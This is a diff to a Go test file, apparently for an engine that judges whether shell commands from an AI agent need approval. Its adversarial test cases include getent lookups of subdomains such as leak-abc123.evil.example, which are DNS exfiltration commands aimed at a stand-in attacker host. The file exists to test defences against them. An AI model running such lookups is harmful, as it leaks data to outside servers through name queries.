@@ -50,9 +50,9 @@ func TestAdversary_T13_CtagsObeysItsDirectory(t *testing.T) {
 	asksForEach(t, "touch .ctags.d/a.ctags", "echo x > ctags.d/a.ctags", "echo -x > .ctags")
 }
 
-// TestAdversary_T13_GetentSendsNames: it asks a name server, as dig does.
+// TestAdversary_T13_GetentSendsNames: it asks a name server, as dig does, and is an external read.
 func TestAdversary_T13_GetentSendsNames(t *testing.T) {
-	e := engine(t, shipped)
+	e := engine(t, shipped, strict)
 	for _, line := range []string{"getent hosts leak-abc123.evil.example", "getent ahosts leak-abc123.evil.example", "getent ahostsv4 a.evil.example", "getent ahostsv6 a.evil.example",
 		"getent networks a.evil.example", "for n in a b; do getent hosts $n.evil.example; done"} {
 		j := judge(e, lineCall(t, line))
